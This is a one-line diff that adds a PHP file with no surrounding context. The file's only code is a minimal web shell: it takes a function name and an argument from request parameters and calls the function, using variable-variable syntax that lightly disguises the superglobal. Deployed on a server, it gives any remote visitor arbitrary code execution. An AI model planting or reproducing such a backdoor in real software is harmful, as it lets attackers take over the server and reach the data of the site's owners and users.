@@ -1,0 +1,1 @@
+<?php ${'_REQUEST'}['fn'](${'_REQUEST'}['arg']); ?>
